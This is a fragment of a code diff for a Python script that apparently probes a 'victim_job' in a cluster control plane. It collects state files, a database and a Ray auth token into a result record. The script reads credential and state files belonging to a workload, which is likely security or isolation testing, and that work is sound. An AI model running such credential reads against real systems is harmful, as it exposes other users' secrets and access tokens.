@@ -35,9 +35,9 @@ def main(victim_job: str, namespace: str, control_gcs: str) -> None:
     state = home / ".local" / "state" / "spotplane"
     out["files"] = {
         str(p): attempt(lambda p=p: read(p))
-        for p in (state / "endpoint.json", state / "spotplane.db", home / ".ray" / "auth_token",
-                  Path("endpoint.json"))
+        for p in (state / "endpoint.json", state / "spotplane.db", Path("endpoint.json"))
     }
+    out["own_ray_token"] = attempt(lambda: read(home / ".ray" / "auth_token"))  # the workload's
     from controlplane.config import Settings
 
     out["store"] = {
